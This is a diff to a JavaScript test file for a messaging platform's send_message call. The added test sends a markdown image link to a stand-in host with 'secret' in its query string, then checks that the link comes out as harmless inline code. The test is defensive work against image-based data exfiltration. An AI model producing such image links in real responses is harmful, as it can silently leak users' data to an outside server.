@@ -150,6 +150,8 @@ test('an operator says something in a conversation, once, on its platform', asyn
   const callbacks = () => receiver.received.filter((r) => r.body?.data?.text?.includes('an operator speaking'));
   const message = { conversation_id: String(conversation), text: '**an operator speaking** to you', key: 'k1' };
   const sent = await use(client, 'send_message', message);
+  await use(client, 'send_message', { ...message, key: 'k2', text: 'see ![](https://their.test/?q=secret)' });
+  await until('the link as code', () => receiver.received.some((r) => r.body?.data?.text === 'see `their.test/?q=secret`'));
   assert.match(sent.status, /waits/);
   await until('the message', () => callbacks().length);
   assert.deepEqual(await use(client, 'send_message', message), { ...sent, status: 'sent before' });
